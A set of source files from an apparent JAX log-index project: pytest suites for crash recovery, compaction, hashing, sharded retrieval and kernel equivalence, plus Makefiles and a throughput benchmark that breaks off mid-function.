        s.ingest(small_dataset.lines)
        s.finish()
    assert any(f.startswith("seg-") for f in os.listdir(d))
    with pytest.raises(FileNotFoundError):
        DynaWarpStore.open(d)
    s.blobs.close()
    # a fresh store at the same path starts clean: stale segment files
    # and the unpublished blob tail are swept at creation
    s2 = DynaWarpStore(**SEG_KW, path=d)
    assert not any(f.startswith("seg-") for f in os.listdir(d))
    assert len(s2.blobs) == 0
    s2.close()


def test_crash_mid_compaction_recovers_pre_crash_state(small_dataset,
                                                       tmp_path, ram_store):
    """Kill after the merged segment file is written but before the
    manifest swap: open() recovers the pre-compaction state bit-identically
    and sweeps the orphaned merged file."""
    d = str(tmp_path / "crash_compact")
    s = DynaWarpStore(**SEG_KW, path=d)
    s.ingest(small_dataset.lines)
    s.finish()
    s.close()
    files_before = sorted(os.listdir(d))
    with open(os.path.join(d, MANIFEST_NAME)) as f:
        man_before = f.read()
    qs = _queries(small_dataset)
    truth = _answers(ram_store, qs)

    crashing = DynaWarpStore.open(d)

    def boom(manifest):
        raise OSError("simulated kill at publish")
    crashing._swap_manifest = boom
    with pytest.raises(OSError):
        crashing.compact(fanout=2)
    # the merged file is an orphan on disk; the manifest is untouched
    assert set(os.listdir(d)) - set(files_before)
    with open(os.path.join(d, MANIFEST_NAME)) as f:
        assert f.read() == man_before

    recovered = DynaWarpStore.open(d)
    assert sorted(os.listdir(d)) == files_before     # orphans swept
    assert _answers(recovered, qs) == truth
    for a, b in zip(ram_store.candidates_term_batch(qs),
                    recovered.candidates_term_batch(qs)):
        np.testing.assert_array_equal(np.sort(a), np.sort(b))


def test_orphan_and_tmp_files_are_swept_on_open(small_dataset, tmp_path,
                                                ram_store):
    d = str(tmp_path / "orphans")
    s = DynaWarpStore(**SEG_KW, path=d)
    s.ingest(small_dataset.lines)
    s.finish()
    s.close()
    # plant a crashed publish: an unreferenced segment file + a torn tmp
    serial.save(s.segments[0], os.path.join(d, "seg-999999.dwp"))
    with open(os.path.join(d, "seg-999998.dwp.tmp"), "wb") as f:
        f.write(b"torn half-write")
    re = DynaWarpStore.open(d)
    names = os.listdir(d)
    assert "seg-999999.dwp" not in names
    assert not any(n.endswith(".tmp") for n in names)
    qs = _queries(small_dataset)
    assert _answers(re, qs) == _answers(ram_store, qs)


# ------------------------------------------------------------ compaction
def test_durable_compaction_foreground(small_dataset, tmp_path, ram_store):
    """compact() on a REOPENED store merges from the memmapped sealed
    sources, publishes atomically, and stays bit-identical."""
    d = str(tmp_path / "compact_fg")
    s = DynaWarpStore(**SEG_KW, path=d)
    s.ingest(small_dataset.lines)
    s.finish()
    s.close()
    re = DynaWarpStore.open(d)
    assert all(seg.sealed_source is not None for seg in re.segments)
    n0 = len(re.segments)
    gen0 = re._manifest_gen
    merges = re.compact(fanout=2)
    assert merges > 0 and len(re.segments) < n0
    assert re._manifest_gen == gen0 + 1
    qs = _queries(small_dataset)
    assert _answers(re, qs) == _answers(ram_store, qs)
    # the published state survives another reopen
    re2 = DynaWarpStore.open(d)
    assert len(re2.segments) == len(re.segments)
    assert _answers(re2, qs) == _answers(ram_store, qs)
    for a, b in zip(ram_store.candidates_term_batch(qs),
                    re2.candidates_term_batch(qs)):
        np.testing.assert_array_equal(np.sort(a), np.sort(b))


def test_durable_compaction_background(small_dataset, tmp_path, ram_store):
    """The worker thread merges + publishes off-thread; wait_compaction()
    drains; the swapped-in state is equivalent and reopenable."""
    d = str(tmp_path / "compact_bg")
    s = DynaWarpStore(**SEG_KW, path=d, background_compact=True)
    s.ingest(small_dataset.lines)
    s.finish()
    n0 = len(s.segments)
    s.request_compact(fanout=2)          # schedules on the worker
    merges = s.wait_compaction(timeout=300)
    assert merges > 0 and len(s.segments) < n0
    qs = _queries(small_dataset)
    assert _answers(s, qs) == _answers(ram_store, qs)
    s.close()
    re = DynaWarpStore.open(d)
    assert len(re.segments) == len(s.segments)
    assert _answers(re, qs) == _answers(ram_store, qs)


# ------------------------------------------------- segment-file fidelity
def test_segment_file_stats_and_planes_roundtrip(ram_store, tmp_path):
    seg = ram_store.segments[0]
    p = str(tmp_path / "seg.dwp")
    serial.save(seg, p)
    lo = serial.load(p)
    assert lo.stats == serial._jsonable(seg.stats)     # exact round-trip
    assert lo.planes is not None
    np.testing.assert_array_equal(np.asarray(lo.planes),
                                  np.asarray(seg.planes))
    assert lo.planes.shape == seg.planes.shape         # geometry exact
    assert lo.sig_bits == seg.sig_bits
    # sealed source round-trips to identical canonical content
    assert lo.sealed_source.canonical_lists() \
        == seg.sealed_source.canonical_lists()
    np.testing.assert_array_equal(np.asarray(lo.sealed_source.fps),
                                  np.asarray(seg.sealed_source.fps))


def test_plane_presence_is_explicit(ram_store, tmp_path):
    seg = ram_store.segments[0]
    p = str(tmp_path / "noplanes.dwp")
    serial.save(seg, p, include_planes=False)
    with open(p, "rb") as f:                 # header says so explicitly
        f.seek(8)
        hlen = int(np.frombuffer(f.read(4), np.uint32)[0])
        header = json.loads(f.read(hlen))
    assert header["meta"]["has_planes"] is False
    assert serial.load(p).planes is None     # honest, not silent
    with pytest.raises(ValueError):          # caller expectation mismatch
        serial.load(p, expect_planes=True)
    p2 = str(tmp_path / "planes.dwp")
    serial.save(seg, p2)
    with pytest.raises(ValueError):
        serial.load(p2, expect_planes=False)
    # explicit include_planes=True on a plane-less sketch must error
    import dataclasses
    bare = dataclasses.replace(seg, planes=None)
    with pytest.raises(ValueError):
        serial.save(bare, str(tmp_path / "x.dwp"), include_planes=True)


# -------------------------------------------------------------- blobfile
def test_blobfile_torn_tail_is_truncated(tmp_path):
    p = str(tmp_path / "blobs.dat")
    bf = BlobFile(p)
    exts = []
    for payload in (b"alpha", b"beta", b"gamma"):
        bf.append(payload)
    exts = list(bf.extents)
    bf.close()
    with open(p, "ab") as f:                 # a torn, unpublished append
        f.write(b"TORN-GARBAGE")
    re = BlobFile(p, extents=exts)           # reopen truncates to extents
    assert [re[i] for i in range(len(re))] == [b"alpha", b"beta", b"gamma"]
    re.append(b"delta")
    assert re[3] == b"delta"
    assert os.path.getsize(p) == re.extents[-1][0] + re.extents[-1][1]
    re.close()
    ro = BlobFile(p, extents=exts, writable=False)
    with pytest.raises(ValueError):
        ro.append(b"nope")
    ro.close()
