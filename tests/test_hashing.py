"""Hash primitives: scalar / numpy / jnp agreement + the paper's
commutative postings hash (Def. 3.1/3.2)."""
import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

import jax.numpy as jnp

from repro.core import hashing as H


@given(st.binary(min_size=0, max_size=40))
@settings(max_examples=100, deadline=None)
def test_fingerprint_scalar_vs_numpy(token):
    n = len(token)
    packed = np.zeros((1, max(n, 1)), np.uint8)
    packed[0, :n] = np.frombuffer(token, np.uint8)
    fp_np = H.np_token_fingerprints(packed, np.asarray([n]))
    assert int(fp_np[0]) == H.token_fingerprint(token)


def test_fingerprint_numpy_vs_jnp(rng):
    toks = rng.integers(0, 256, (64, 24)).astype(np.uint8)
    lens = rng.integers(0, 25, 64).astype(np.int32)
    for i in range(64):
        toks[i, lens[i]:] = 0
    a = H.np_token_fingerprints(toks, lens)
    b = np.asarray(H.jnp_token_fingerprints(jnp.asarray(toks),
                                            jnp.asarray(lens)))
    np.testing.assert_array_equal(a, b)


@given(st.lists(st.integers(0, 2**16 - 1), min_size=1, max_size=50,
                unique=True))
@settings(max_examples=50, deadline=None)
def test_postings_hash_commutative(postings):
    """XOR-combined LCG hash is order independent (Def. 3.1)."""
    import random
    shuffled = postings[:]
    random.Random(42).shuffle(shuffled)
    assert H.postings_hash(postings) == H.postings_hash(shuffled)


@given(st.sets(st.integers(0, 2**16 - 1), min_size=2, max_size=50))
@settings(max_examples=50, deadline=None)
def test_postings_hash_incremental(postings):
    """hash(P u {p}) == hash(P) XOR hash_element(p) — the O(1) update."""
    postings = sorted(postings)
    head, last = postings[:-1], postings[-1]
    assert (H.postings_hash(head) ^ H.posting_element_hash(last)
            == H.postings_hash(postings))


def test_lcg_matches_definition():
    x0 = 12345
    assert H.lcg_step(x0) == (H.LCG_A * x0 + H.LCG_C) % (1 << 64)


def test_posting_element_hash_u32_pair():
    """The TPU hi/lo u32 emulation equals the 64-bit LCG step."""
    ps = np.asarray([0, 1, 7, 65535, 2**31], np.uint32)
    hi, lo = H.jnp_posting_element_hash(jnp.asarray(ps))
    for i, p in enumerate(ps):
        full = H.lcg_step(int(p))
        assert (int(hi[i]) << 32) | int(lo[i]) == full


def test_seeded_hash_consistency():
    fps = np.asarray([1, 2, 3, 0xFFFFFFFF], np.uint32)
    a = H.np_seeded_hash32(fps, 0xABCD)
    b = np.asarray(H.seeded_hash32(jnp.asarray(fps), 0xABCD))
    np.testing.assert_array_equal(a, b)
    assert H.scalar_seeded_hash32(1, 0xABCD) == int(a[0])
