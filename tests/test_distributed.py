"""Sharded device retrieval: ShardedQueryEngine vs the single-device
QueryEngine vs the host oracle (bit-identical on any mesh size), per-shard
upload caching across engine rebuilds/compaction, heterogeneous
level-layout bucketing, and the store-level sharded wave vs the scan
baseline.

Runs on whatever mesh is visible: 1 CPU device under the plain tier-1
suite, 8 host devices under ``make test-distributed``
(``XLA_FLAGS=--xla_force_host_platform_device_count=8``).
"""
import numpy as np
import pytest

import jax

from repro.core.batch_builder import build_sealed
from repro.core.distributed import ShardedQueryEngine, default_shard_mesh
from repro.core.immutable_sketch import build_immutable
from repro.core.query_engine import QueryEngine
from repro.core.segment import SegmentWriter

N_DEV = len(jax.devices())


def _spill_segments(seed=7, n_vocab=400, n_pairs=8000, n_postings=60):
    rng = np.random.default_rng(seed)
    fps = (rng.integers(0, n_vocab, n_pairs).astype(np.uint64)
           * 2654435761 % (1 << 32)).astype(np.uint32)
    posts = rng.integers(0, n_postings, n_pairs).astype(np.int64)
    w = SegmentWriter(memory_limit_bytes=1 << 12)
    for f, p in zip(fps, posts):
        w.add_fingerprints(np.asarray([f], np.uint32), int(p))
    segs = w.finish_segments()
    assert len(segs) > 1
    return rng, segs, np.unique(fps), n_postings


def _random_queries(rng, uniq, n=20, t_max=5):
    queries = [[]]
    for _ in range(n):
        t = int(rng.integers(1, t_max + 1))
        q = [int(x) for x in rng.choice(uniq, min(t, len(uniq)),
                                        replace=False)]
        if rng.random() < 0.4:  # inject an absent fingerprint
            q[rng.integers(0, len(q))] = int(rng.integers(0, 2**32))
        queries.append(q)
    return queries


# ------------------------------------------------------------- equivalence
@pytest.mark.parametrize("shard_axes", [("data",), ("pod", "data")])
def test_sharded_matches_single_engine_and_host(shard_axes):
    rng, segs, uniq, n_post = _spill_segments()
    single = QueryEngine(segs, n_postings=n_post)
    shard = ShardedQueryEngine(segs, n_postings=n_post,
                               shard_axes=shard_axes)
    assert shard.n_shards == N_DEV
    queries = _random_queries(rng, uniq)
    for op in ("and", "or"):
        a = single.query_fps_batch(queries, op=op)
        b = shard.query_fps_batch(queries, op=op)
        for q, x, y in zip(queries, a, b):
            np.testing.assert_array_equal(x, y), (op, q)
            np.testing.assert_array_equal(y, shard.host_query(q, op=op))


def test_heterogeneous_layouts_shard_by_bucket():
    """Segments with different MPHF level layouts must still go through
    the sharded path — one stacked dispatch per level-layout bucket, no
    host unroll, results bit-identical to the single-device engine."""
    rng = np.random.default_rng(3)
    segs, fp_chunks = [], []
    for n in (200, 3000, 800, 200, 5000, 50):
        fps = (rng.integers(0, n, n * 8).astype(np.uint64)
               * 2654435761 % (1 << 32)).astype(np.uint32)
        posts = rng.integers(0, 90, fps.size).astype(np.int64)
        segs.append(build_immutable(build_sealed(fps, posts)))
        fp_chunks.append(fps)
    assert len({s._level_layout() for s in segs}) > 1
    shard = ShardedQueryEngine(segs, n_postings=90)
    single = QueryEngine(segs, n_postings=90)
    assert len(shard._buckets) > 1
    assert sum(len(ids) for _, ids in shard._buckets) == len(segs)
    uniq = np.unique(np.concatenate(fp_chunks))
    queries = _random_queries(rng, uniq, n=16)
    for op in ("and", "or"):
        for x, y in zip(single.query_fps_batch(queries, op=op),
                        shard.query_fps_batch(queries, op=op)):
            np.testing.assert_array_equal(x, y)
    if N_DEV > 1:  # buffers really shard over the mesh
        for key, _ in shard._buckets:
            garrs, _ = shard._bucket_arrs[key]
            assert not garrs["words"].sharding.is_fully_replicated


# ------------------------------------------------------------ upload cache
def test_per_shard_buffers_upload_exactly_once():
    rng, segs, uniq, n_post = _spill_segments(seed=11)
    eng = ShardedQueryEngine(segs, n_postings=n_post)
    queries = _random_queries(rng, uniq, n=6)
    for _ in range(3):  # several waves, several bucket shapes
        eng.query_fps_batch(queries)
        eng.query_fps_batch(queries[:2], op="or")
    assert eng.upload_count == len(segs), \
        "each segment's shard row must upload exactly once"

    # an engine rebuild over the same fleet reuses every uploaded row
    eng2 = ShardedQueryEngine(segs, n_postings=n_post)
    eng2.query_fps_batch(queries[:3])
    assert eng2.upload_count == 0

    # ... and a partially-changed fleet re-uploads ONLY the new segment
    merged = build_immutable(
        build_sealed(np.zeros(1, np.uint32), np.zeros(1, np.int64)))
    eng3 = ShardedQueryEngine(segs[:-1] + [merged], n_postings=n_post)
    eng3.query_fps_batch(queries[:3])
    assert eng3.upload_count == 1


def test_store_compaction_keeps_shard_caches(small_dataset):
    from repro.logstore.store import DynaWarpStore
    s = DynaWarpStore(batch_lines=64, mode="segmented",
                      memory_limit_bytes=1 << 16, auto_compact=False,
                      shard_axes=("data",))
    s.ingest(small_dataset.lines)
    s.finish()
    assert type(s.engine).__name__ == "ShardedQueryEngine"
    n_segs = len(s.segments)
    assert n_segs > 1
    before = s.query_term_batch(["info", "gc"])
    assert s.engine.upload_count == len(s.engine._plane_segs)
    merges = s.compact(fanout=2)
    assert merges > 0
    assert type(s.engine).__name__ == "ShardedQueryEngine"
    after = s.query_term_batch(["info", "gc"])
    for x, y in zip(before, after):
        assert x.matches == y.matches
    # every merge produced exactly one fresh segment; survivors kept
    # their per-shard rows from before the rebuild
    assert s.engine.upload_count <= merges


# ------------------------------------------------------------- store level
def test_sharded_store_matches_plain_and_scan(small_dataset):
    from repro.logstore.datasets import id_queries, present_id_queries
    from repro.logstore.store import DynaWarpStore, ScanStore
    plain = DynaWarpStore(batch_lines=64, mode="segmented",
                          memory_limit_bytes=1 << 16)
    shard = DynaWarpStore(batch_lines=64, mode="segmented",
                          memory_limit_bytes=1 << 16, shard_axes=("data",))
    scan = ScanStore(batch_lines=64)
    for s in (plain, shard, scan):
        s.ingest(small_dataset.lines)
        s.finish()
    terms = (present_id_queries(small_dataset, 3, 6) + id_queries(13, 3)
             + ["info", "gc"])
    rp = plain.query_term_batch(terms)
    rs = shard.query_term_batch(terms)
    for t, x, y in zip(terms, rp, rs):
        assert x.matches == y.matches, t
        np.testing.assert_array_equal(np.sort(x.candidate_batches),
                                      np.sort(y.candidate_batches))
        assert y.matches == scan.query_term(t).matches, t


# --------------------------------------------------------------- extraction
def test_extraction_modes_bit_identical():
    """Device-side candidate extraction (the batched default) and the
    LRU-cached host flatnonzero decode return identical ids."""
    rng, segs, uniq, n_post = _spill_segments(seed=5, n_pairs=5000)
    dev = ShardedQueryEngine(segs, n_postings=n_post)
    host = ShardedQueryEngine(segs, n_postings=n_post,
                              extract_on_device=False)
    assert dev._extract_on_device and not host._extract_on_device
    queries = _random_queries(rng, uniq, n=10)
    for op in ("and", "or"):
        for x, y in zip(dev.query_fps_batch(queries, op=op),
                        host.query_fps_batch(queries, op=op)):
            np.testing.assert_array_equal(x, y)
    # repeated host waves hit the bitmap-row LRU
    host.query_fps_batch(queries)
    assert len(host._bm_lru) > 0


def test_default_mesh_covers_all_devices():
    mesh = default_shard_mesh(("pod", "data"))
    assert mesh.shape["pod"] == 1
    assert mesh.shape["data"] == N_DEV
