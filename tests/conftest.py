import sys

import numpy as np
import pytest

try:  # pragma: no cover - exercised only when hypothesis is installed
    import hypothesis  # noqa: F401
except ImportError:
    # Seed containers ship without hypothesis; register the deterministic
    # fallback sampler so property-test modules still collect and run.
    import importlib.util
    import pathlib

    _spec = importlib.util.spec_from_file_location(
        "_hypothesis_fallback",
        pathlib.Path(__file__).parent / "_hypothesis_fallback.py")
    _hypothesis_fallback = importlib.util.module_from_spec(_spec)
    _spec.loader.exec_module(_hypothesis_fallback)
    sys.modules["hypothesis"] = _hypothesis_fallback
    sys.modules["hypothesis.strategies"] = _hypothesis_fallback.strategies


@pytest.fixture(scope="session")
def small_dataset():
    from repro.logstore.datasets import generate_dataset
    return generate_dataset("test", n_lines=2000, n_sources=12, seed=7)


@pytest.fixture(scope="session")
def rng():
    return np.random.default_rng(0)
