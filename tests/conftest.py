import numpy as np
import pytest


@pytest.fixture(scope="session")
def small_dataset():
    from repro.logstore.datasets import generate_dataset
    return generate_dataset("test", n_lines=2000, n_sources=12, seed=7)


@pytest.fixture(scope="session")
def rng():
    return np.random.default_rng(0)
