"""Per-kernel shape/dtype sweeps: Pallas (interpret mode on CPU) vs the
pure-jnp oracles in each kernel's ref.py."""
import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

import jax
import jax.numpy as jnp

from repro.kernels import (bitmap_extract, bitset_reduce,
                           bitset_reduce_batch, csc_partition_mask,
                           embedding_bag_sum, mphf_probe, retrieval_scores,
                           token_fingerprints)
from repro.kernels.bitmap_extract.ref import bitmap_extract_ref
from repro.kernels.bitset_ops.ref import (bitset_reduce_batch_ref,
                                          bitset_reduce_ref)
from repro.kernels.embedding_bag.ref import embedding_bag_ref
from repro.kernels.retrieval_score.ref import retrieval_score_ref
from repro.kernels.token_hash.ref import token_hash_ref


@pytest.mark.parametrize("n,l", [(8, 4), (100, 24), (1025, 32), (4096, 16)])
def test_token_hash_shapes(n, l, rng):
    toks = rng.integers(0, 256, (n, l)).astype(np.uint8)
    lens = rng.integers(0, l + 1, n).astype(np.int32)
    for i in range(n):
        toks[i, lens[i]:] = 0
    got = token_fingerprints(jnp.asarray(toks), jnp.asarray(lens))
    want = token_hash_ref(jnp.asarray(toks), jnp.asarray(lens))
    np.testing.assert_array_equal(np.asarray(got), np.asarray(want))


@pytest.mark.parametrize("t,w,op", [(1, 64, "and"), (3, 700, "and"),
                                    (8, 2048, "or"), (16, 513, "and")])
def test_bitset_shapes(t, w, op, rng):
    planes = rng.integers(0, 2**32, (t, w), dtype=np.uint64) \
        .astype(np.uint32)
    c, n = bitset_reduce(jnp.asarray(planes), op=op)
    cr, nr = bitset_reduce_ref(jnp.asarray(planes), op=op)
    np.testing.assert_array_equal(np.asarray(c), np.asarray(cr))
    assert int(n) == int(nr)


@pytest.mark.parametrize("q,t,w,op", [(1, 1, 10, "and"), (4, 3, 700, "and"),
                                      (8, 8, 513, "or"), (512, 1, 40, "and"),
                                      (16, 2, 64, "or")])
def test_bitset_batch_shapes(q, t, w, op, rng):
    planes = rng.integers(0, 2**32, (q, t, w), dtype=np.uint64) \
        .astype(np.uint32)
    c, n = bitset_reduce_batch(jnp.asarray(planes), op=op)
    cr, nr = bitset_reduce_batch_ref(jnp.asarray(planes), op=op)
    np.testing.assert_array_equal(np.asarray(c), np.asarray(cr))
    np.testing.assert_array_equal(np.asarray(n), np.asarray(nr))


@pytest.mark.parametrize("q,w,max_hits", [(1, 1, 8), (8, 4, 16),
                                          (16, 33, 64), (5, 7, 4)])
def test_bitmap_extract_shapes(q, w, max_hits, rng):
    """Kernel vs jnp ref vs a numpy oracle, including the truncation
    path (max_hits smaller than a row's popcount)."""
    bm = rng.integers(0, 2**32, (q, w), dtype=np.uint64).astype(np.uint32)
    bm[0] = 0                                   # an empty row
    k_ids, k_cnt = bitmap_extract(jnp.asarray(bm), max_hits=max_hits,
                                  use_kernel=True)
    r_ids, r_cnt = bitmap_extract_ref(jnp.asarray(bm), max_hits=max_hits)
    np.testing.assert_array_equal(np.asarray(k_ids), np.asarray(r_ids))
    np.testing.assert_array_equal(np.asarray(k_cnt), np.asarray(r_cnt))
    for i in range(q):
        want = np.flatnonzero(np.unpackbits(bm[i].view(np.uint8),
                                            bitorder="little"))
        got = np.asarray(k_ids[i])
        np.testing.assert_array_equal(got[got >= 0], want[:max_hits])
        assert int(k_cnt[i]) == want.size


@pytest.mark.parametrize("nkeys", [50, 1000, 20000])
def test_mphf_probe_sweep(nkeys, rng):
    from repro.core.mphf import build_mphf
    keys = np.unique(rng.integers(0, 2**32, nkeys, dtype=np.uint64)
                     .astype(np.uint32))
    m = build_mphf(keys)
    q = np.concatenate([keys, rng.integers(0, 2**32, 777, dtype=np.uint64)
                        .astype(np.uint32)])
    ki, ka = mphf_probe(m, q)
    ri, ra = m.lookup_jnp(jnp.asarray(q))
    np.testing.assert_array_equal(np.asarray(ka),
                                  np.asarray(ra).astype(bool))
    keep = ~np.asarray(ka)
    np.testing.assert_array_equal(np.asarray(ki)[keep],
                                  np.asarray(ri)[keep])


@pytest.mark.parametrize("m_bits,k,p,j", [(1 << 12, 2, 16, 1),
                                          (1 << 16, 4, 64, 2)])
def test_csc_probe_sweep(m_bits, k, p, j, rng):
    from repro.baselines.csc import CSCSketch
    sk = CSCSketch.build(m_bits=m_bits, k=k, p=p, j=j, n_sets=50)
    fps = rng.integers(0, 2**32, 1500, dtype=np.uint64).astype(np.uint32)
    sk.insert_batch(fps, rng.integers(0, 50, 1500))
    q = np.concatenate([fps[:100], rng.integers(0, 2**32, 64,
                                                dtype=np.uint64)
                        .astype(np.uint32)])
    got = csc_partition_mask(sk, q)
    want = sk.partition_mask_jnp(jnp.asarray(q))
    np.testing.assert_array_equal(np.asarray(got), np.asarray(want))


@pytest.mark.parametrize("v,d,b,bag,dtype", [
    (100, 8, 8, 2, np.float32), (1000, 32, 64, 8, np.float32),
    (500, 128, 16, 4, np.float32)])
def test_embedding_bag_sweep(v, d, b, bag, dtype, rng):
    table = rng.normal(size=(v, d)).astype(dtype)
    idx = rng.integers(0, v, (b, bag)).astype(np.int32)
    got = embedding_bag_sum(jnp.asarray(table), jnp.asarray(idx))
    want = embedding_bag_ref(jnp.asarray(table), jnp.asarray(idx))
    np.testing.assert_allclose(np.asarray(got), np.asarray(want),
                               rtol=1e-5, atol=1e-5)


@pytest.mark.parametrize("c,d", [(256, 32), (5000, 64), (10000, 256)])
def test_retrieval_score_sweep(c, d, rng):
    corpus = rng.normal(size=(c, d)).astype(np.float32)
    q = rng.normal(size=(d,)).astype(np.float32)
    got = retrieval_scores(jnp.asarray(corpus), jnp.asarray(q))
    want = retrieval_score_ref(jnp.asarray(corpus), jnp.asarray(q)[None])
    np.testing.assert_allclose(np.asarray(got), np.asarray(want),
                               rtol=2e-5, atol=1e-4)


@given(st.integers(1, 300), st.integers(1, 12))
@settings(max_examples=10, deadline=None)
def test_token_hash_property(n, l):
    rng = np.random.default_rng(n * 31 + l)
    toks = rng.integers(0, 256, (n, l)).astype(np.uint8)
    lens = rng.integers(0, l + 1, n).astype(np.int32)
    for i in range(n):
        toks[i, lens[i]:] = 0
    got = token_fingerprints(jnp.asarray(toks), jnp.asarray(lens))
    want = token_hash_ref(jnp.asarray(toks), jnp.asarray(lens))
    np.testing.assert_array_equal(np.asarray(got), np.asarray(want))


@pytest.mark.parametrize("b,s,hq,hkv,d,clen,dtype", [
    (2, 128, 4, 2, 16, 100, np.float32),
    (1, 700, 8, 8, 32, 650, np.float32),
    (4, 64, 16, 2, 8, 64, np.float32),
    (2, 256, 6, 3, 64, 17, np.float32),
])
def test_flash_decode_sweep(b, s, hq, hkv, d, clen, dtype, rng):
    from repro.kernels import flash_decode
    from repro.kernels.flash_decode.ref import flash_decode_ref
    q = jnp.asarray(rng.normal(size=(b, hq, d)), dtype)
    k = jnp.asarray(rng.normal(size=(b, s, hkv, d)), dtype)
    v = jnp.asarray(rng.normal(size=(b, s, hkv, d)), dtype)
    got = flash_decode(q, k, v, jnp.int32(clen), block_s=64)
    want = flash_decode_ref(q, k, v, jnp.int32(clen))
    np.testing.assert_allclose(np.asarray(got), np.asarray(want),
                               rtol=2e-5, atol=2e-5)
