PYTHONPATH := src

.PHONY: test bench bench-smoke example

# tier-1 verify (ROADMAP.md)
test:
	PYTHONPATH=$(PYTHONPATH) python -m pytest -x -q

bench:
	PYTHONPATH=$(PYTHONPATH) python -m benchmarks.run

# fast CI gate: segmented columnar ingest + forced compaction vs scan
bench-smoke:
	PYTHONPATH=$(PYTHONPATH) python -m benchmarks.ingest_smoke

example:
	PYTHONPATH=$(PYTHONPATH) python examples/batched_query.py
