PYTHONPATH := src

.PHONY: test bench example

# tier-1 verify (ROADMAP.md)
test:
	PYTHONPATH=$(PYTHONPATH) python -m pytest -x -q

bench:
	PYTHONPATH=$(PYTHONPATH) python -m benchmarks.run

example:
	PYTHONPATH=$(PYTHONPATH) python examples/batched_query.py
