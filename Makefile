PYTHONPATH := src
MULTIDEV := XLA_FLAGS=--xla_force_host_platform_device_count=8

.PHONY: test test-distributed test-persistence test-faults test-serving \
	bench bench-smoke bench-smoke-sharded bench-smoke-serve example

# tier-1 verify (ROADMAP.md)
test:
	PYTHONPATH=$(PYTHONPATH) python -m pytest -x -q

# sharded retrieval on a forced 8-way host mesh (the tier-1 suite runs
# the same tests on however many devices are visible — usually 1)
test-distributed:
	$(MULTIDEV) PYTHONPATH=$(PYTHONPATH) python -m pytest -x -q \
		tests/test_distributed.py

# durable segment store: crash recovery + reopen equivalence, plus the
# same suite on a forced 8-way host mesh (durable-id device-cache keying
# must hold for per-shard row caches too)
test-persistence:
	PYTHONPATH=$(PYTHONPATH) python -m pytest -x -q \
		tests/test_persistence.py
	$(MULTIDEV) PYTHONPATH=$(PYTHONPATH) python -m pytest -x -q \
		tests/test_persistence.py

# crash-safe live ingest: fault-injection crash matrix, reopen-for-append
# convergence, and concurrent snapshot readers — on 1 device and on the
# forced 8-way host mesh (snapshot isolation must hold for sharded waves)
test-faults:
	PYTHONPATH=$(PYTHONPATH) python -m pytest -x -q \
		tests/test_faults.py
	$(MULTIDEV) PYTHONPATH=$(PYTHONPATH) python -m pytest -x -q \
		tests/test_faults.py

# wave-coalescing serving front end: concurrency battery (equivalence
# under concurrent clients, flush triggers, admission control, replica
# routing, snapshot serving under live ingest + writer crash) — on 1
# device and on the forced 8-way host mesh (waves over sharded engines)
test-serving:
	PYTHONPATH=$(PYTHONPATH) python -m pytest -x -q \
		tests/test_serving.py
	$(MULTIDEV) PYTHONPATH=$(PYTHONPATH) python -m pytest -x -q \
		tests/test_serving.py

bench:
	PYTHONPATH=$(PYTHONPATH) python -m benchmarks.run

# fast CI gate: segmented columnar ingest + forced compaction vs scan
bench-smoke:
	PYTHONPATH=$(PYTHONPATH) python -m benchmarks.ingest_smoke

# fast CI gate: sharded retrieval over 8 host devices vs scan
bench-smoke-sharded:
	$(MULTIDEV) PYTHONPATH=$(PYTHONPATH) python -m benchmarks.sharded_smoke

# fast CI gate: coalesced-wave serving >= 3x per-query dispatch q/s,
# bit-identical, under >= 8 open-loop clients (writes a BENCH_serve row)
bench-smoke-serve:
	PYTHONPATH=$(PYTHONPATH) python -m benchmarks.serve_load --smoke

example:
	PYTHONPATH=$(PYTHONPATH) python examples/batched_query.py
