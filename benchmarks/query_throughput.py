"""Table 3: query throughput (queries/s) per scenario x store x dataset.
Cold-ish protocol: every query decompresses + Boyer-Moore-post-filters
its candidate batches, so false positives cost real work."""
from .common import (DATASETS, QUERY_SCENARIOS, build_store, load_dataset,
                     time_queries)


def run(results: dict):
    table = {}
    for ds_name in DATASETS:
        ds = load_dataset(ds_name)
        stores = {n: build_store(n, ds)
                  for n in ("dynawarp", "csc", "lucene", "bloom", "scan")}
        for scen, make in QUERY_SCENARIOS.items():
            for sname, s in stores.items():
                queries, fn = make(ds, s)
                qps = time_queries(fn, queries)
                table[f"{ds_name}/{scen}/{sname}"] = round(qps, 2)
                print(f"[query] {ds_name:14s} {scen:16s} {sname:9s} "
                      f"{qps:10.2f} q/s", flush=True)
        # paper headline: needle-in-haystack speedup vs linear scan
        base = table[f"{ds_name}/term(ID)/scan"]
        for sname in ("dynawarp", "csc", "lucene"):
            spd = table[f"{ds_name}/term(ID)/{sname}"] / max(base, 1e-9)
            table[f"{ds_name}/term(ID)/{sname}_speedup_vs_scan"] = round(spd, 1)
            print(f"[query] {ds_name} term(ID) {sname} speedup vs scan: "
                  f"{spd:.0f}x", flush=True)
    results["query_throughput"] = table
