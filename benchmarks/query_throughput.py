"""Table 3: query throughput (queries/s) per scenario x store x dataset.
Cold-ish protocol: every query decompresses + Boyer-Moore-post-filters
its candidate batches, so false positives cost real work.

The extra ``device_query`` scenario times the candidate-generation index
probe itself — the paper's sequential host loop (Alg. 3, one token probe
at a time) against the batched QueryEngine (one device dispatch per wave
through the Pallas probe + bitset kernels) — on the same DynaWarp store.

This module also EMITS the serving layer's dispatch-cost model:
:func:`measure_dispatch_costs` times the scalar host path and one jitted
device wave per supported Q bucket, and ``run()`` writes the result as
machine-readable JSON (``bench_costmodel.json``) — the input
``repro.core.serving.CostModel.load`` feeds to the wave scheduler's
host-vs-device admission decision.
"""
import json
import statistics
import time

from .common import (DATASETS, QUERY_SCENARIOS, build_store, load_dataset,
                     time_queries)

COST_MODEL_OUT = "bench_costmodel.json"


def measure_dispatch_costs(engine, token_lists, *,
                           buckets=(8, 16, 32, 64, 128, 256),
                           reps: int = 3, host_samples: int = 64) -> dict:
    """Measure the serving cost model on ``engine``: scalar host cost
    per query and one device wave's dispatch cost per Q bucket.

    Machine-readable (the scheduler's input, not a print table): the
    returned dict matches ``repro.core.serving.CostModel.from_dict`` —
    ``format``, ``host_us_per_query`` (float), ``device_us_per_wave``
    (bucket -> microseconds per wave) — plus measurement provenance
    (``backend``, ``n_segments``, ``reps``).  Each bucket is compiled
    once (warm-up wave) and timed over ``reps`` dispatches; the median
    rep is recorded so one GC pause cannot skew the model.
    """
    import jax

    from repro.core.serving import COST_MODEL_FORMAT

    buckets = sorted({int(b) for b in buckets})
